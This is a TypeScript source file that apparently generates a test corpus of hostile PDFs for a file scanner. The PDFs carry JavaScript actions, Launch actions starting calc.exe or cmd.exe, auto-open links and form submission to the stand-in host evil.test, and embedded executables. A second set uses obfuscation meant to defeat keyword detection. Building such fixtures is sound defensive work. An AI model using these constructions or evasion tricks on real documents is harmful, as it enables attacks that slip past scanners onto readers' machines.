import { hostile, type HostileFile } from './corpus-file'
import { buildPdf, FIRST_EXTRA, flate, updated, type PdfBody, type PdfLayout, type PdfSpec } from './pdf-builder'

const X = `${FIRST_EXTRA} 0 R`
const Y = `${FIRST_EXTRA + 1} 0 R`
const JS = '<< /S /JavaScript /JS (app.alert(1)) >>'
const FILE: PdfBody = { entries: '/Type /EmbeddedFile', data: Buffer.from('MZ') }
const FILESPEC = `<< /Type /Filespec /F (a.exe) /EF << /F ${X} >> >>`

const form = { entries: '/Type /XObject /Subtype /Form /BBox [0 0 9 9]', data: Buffer.from('q Q') }
const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 50 50] ${entries} >>]`
const field = (entries: string) =>
  `/AcroForm << /Fields [<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] ${entries} >>] >>`

/** What a paper has no need of, by class: each is written in several layouts below. */
const payloads: Record<string, Record<string, PdfSpec>> = {
  'PDF with scripts': {
    'open-action': { catalog: `/OpenAction ${JS}` },
    'names-tree': { catalog: `/Names << /JavaScript << /Names [(a) ${X}] >> >>`, extra: [JS] },
    'page-action': { page: `/AA << /O ${JS} >>` },
    annotation: { page: annotation(`/Subtype /Link /A ${JS}`) },
    field: { catalog: field(`/AA << /K ${JS} >>`) },
    'script-in-stream': { catalog: `/OpenAction << /S /JavaScript /JS ${X} >>`, extra: [flate('', 'app.alert(1)')] },
    'javascript-address': { page: annotation('/Subtype /Link /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >>') },
  },
  'PDF that starts programs': {
    'open-action': { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' },
    annotation: { page: annotation('/Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>') },
    'chained-after-a-page': {
      catalog: '/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>',
    },
    'address-as-object': {
      page: annotation(`/Subtype /Link /A << /S /URI /URI ${X} >>`),
      extra: ['(file:///c:/windows/system32/calc.exe)'],
    },
    'file-address': { page: annotation('/Subtype /Link /A << /S /URI /URI (file:///c:/windows/system32/calc.exe) >>') },
  },
  'PDF that acts by itself': {
    'opens-a-site': { catalog: '/OpenAction << /S /URI /URI (http://evil.test) >>' },
    'opens-another-file': { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>' },
    'prints-on-opening': { catalog: `/OpenAction ${X}`, extra: ['<< /S /Named /N /Print >>'] },
    'on-closing': { catalog: '/AA << /WC << /S /Named /N /SaveAs >> >>' },
    'on-page': { page: '/AA << /C << /S /URI /URI (http://evil.test) >> >>' },
    'article-of-another-file': { page: annotation('/Subtype /Link /A << /S /Thread /F (a.pdf) /D 0 >>') },
    'page-of-another-file': {
      extra: [{ ...form, entries: `${form.entries} /Ref << /F (http://evil.test/a.pdf) /Page 0 >>` }],
    },
    'page-of-another-file-as-object': {
      extra: [{ ...form, entries: `${form.entries} /Ref ${Y}` }, '<< /F (\\\\\\\\evil\\\\a.pdf) /Page 0 >>'],
    },
    'picture-of-a-print-server': {
      extra: [{ ...form, entries: `${form.entries} /OPI << /2.0 << /F (http://evil.test/a) >> >>` }],
    },
    'content-elsewhere': {
      contentStream: { entries: '/F (http://evil.test/content) /FFilter /FlateDecode', data: Buffer.alloc(0) },
    },
  },
  'PDF with forms that send': {
    submit: { catalog: field('/A << /S /SubmitForm /F << /FS /URL /F (http://evil.test) >> >>') },
    import: { catalog: field('/A << /S /ImportData /F (data.fdf) >>') },
    xfa: { catalog: `/AcroForm << /Fields [] /XFA ${X} >>`, extra: [flate('', '<xdp:xdp/>')] },
    'xfa-packets': { catalog: `/AcroForm << /Fields [] /XFA [(template) ${X}] >>`, extra: [flate('', '<template/>')] },
  },
  'PDF with files inside': {
    'names-tree': {
      catalog: `/Names << /EmbeddedFiles << /Names [(a) ${Y}] >> >>`,
      extra: [FILE, FILESPEC],
    },
    annotation: { page: annotation(`/Subtype /FileAttachment /FS ${Y}`), extra: [FILE, FILESPEC] },
    associated: { catalog: `/AF [${Y}]`, extra: [FILE, FILESPEC] },
    portfolio: { catalog: '/Collection << /Type /Collection /View /D >>' },
    'opens-the-inner-file': { page: annotation('/Subtype /Link /A << /S /GoToE /T << /R /C /N (a.pdf) >> >>') },
  },
  'PDF with media': {
    'rich-media': { page: annotation('/Subtype /RichMedia /RichMediaContent << >>') },
    movie: { page: annotation('/Subtype /Movie /Movie << /F (a.avi) >>') },
    sound: { page: annotation(`/Subtype /Sound /Sound ${X}`), extra: [flate('/Type /Sound /R 8000', '0')] },
    rendition: { page: annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>') },
    'three-d': { page: annotation(`/Subtype /3D /3DD ${X}`), extra: [flate('/Type /3D /Subtype /U3D', 'U3D')] },
  },
}

const layouts: PdfLayout[] = ['table', 'packed']

export function hostileActivePdfs(): HostileFile[] {
  return Object.entries(payloads).flatMap(([group, specs]) => {
    const files: Record<string, Uint8Array> = {}
    for (const [name, spec] of Object.entries(specs))
      for (const layout of layouts) files[`${name}-${layout}.pdf`] = buildPdf({ ...spec, layout })
    return hostile(group, 'FILE_ACTIVE', files)
  })
}

/** The same, written so that a search for the words does not find it. */
export function hiddenActivePdfs(): HostileFile[] {
  const plain = buildPdf()
  const action = new Map<number, PdfBody>([[1, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${JS} >>`]])
  const clean = new Map<number, PdfBody>([[1, '<< /Type /Catalog /Pages 2 0 R >>']])
  return hostile('PDF with hidden scripts', 'FILE_ACTIVE', {
    'hex-in-names.pdf': buildPdf({ catalog: '/Open#41ction << /S /#4a#61vaScript /J#53 (1) >>' }),
    'name-as-object.pdf': buildPdf({ catalog: `/OpenAction << /S ${X} /J#53 (1) >>`, extra: ['/JavaScript'] }),
    'later-revision.pdf': updated(plain, action),
    'earlier-revision.pdf': updated(buildPdf({ catalog: `/OpenAction ${JS}` }), clean),
    'comments-between.pdf': buildPdf({ catalog: '/OpenAction%x\n<<%>>\n/S%\n/JavaScript/JS(1)>>' }),
    'key-twice.pdf': buildPdf({ catalog: `/OpenAction [10 0 R /Fit] /OpenAction ${JS}` }),
    'unclosed.pdf': buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (1) ' }),
    'inside-a-stream.pdf': buildPdf({ extra: [{ entries: '', data: Buffer.from(`99 0 obj ${JS} endobj`) }] }),
    'stream-without-type.pdf': buildPdf({
      extra: [flate('/N 1 /First 5', `99 0 ${JS}`)],
    }),
    'length-as-object.pdf': buildPdf({
      extra: [
        { ...flate(`/Type /ObjStm /N 1 /First 5 /Length ${Y}`, `99 0 ${JS}`) },
        String(flate('', `99 0 ${JS}`).data.length),
      ],
    }),
    'packed-with-a-predictor.pdf': buildPdf({ extra: [predicted(`99 0 ${JS}`)] }),
    'nested-deep.pdf': buildPdf({ catalog: `/Deep ${'['.repeat(40)} ${JS} ${']'.repeat(40)}` }),
    'octal-address.pdf': buildPdf({
      page: annotation('/Subtype /Link /A << /S /URI /URI <6a6176617363726970743a616c657274283129> >>'),
    }),
  })
}

/** One row with the filter «none», as the PNG predictors write it. */
function predicted(text: string): PdfBody {
  const parms = `/DecodeParms << /Predictor 12 /Columns ${text.length} >>`
  return flate(`/Type /ObjStm /N 1 /First 5 ${parms}`, `\0${text}`)
}
